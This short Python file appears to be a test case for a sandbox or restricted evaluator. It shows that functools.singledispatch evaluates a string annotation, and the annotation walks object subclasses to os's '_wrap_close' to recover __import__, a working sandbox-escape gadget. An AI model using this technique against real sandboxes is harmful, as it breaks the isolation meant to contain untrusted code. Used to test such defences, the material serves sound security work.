# kind: capability
# functools.singledispatch registers by annotation, through
# typing.get_type_hints: the same eval of a string.
import functools

leak = []


@functools.singledispatch
def f(x):
    pass


def probe(x: "leak.append([c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']['__import__']) or int"):
    pass


f.register(probe)
payload(leak[0])
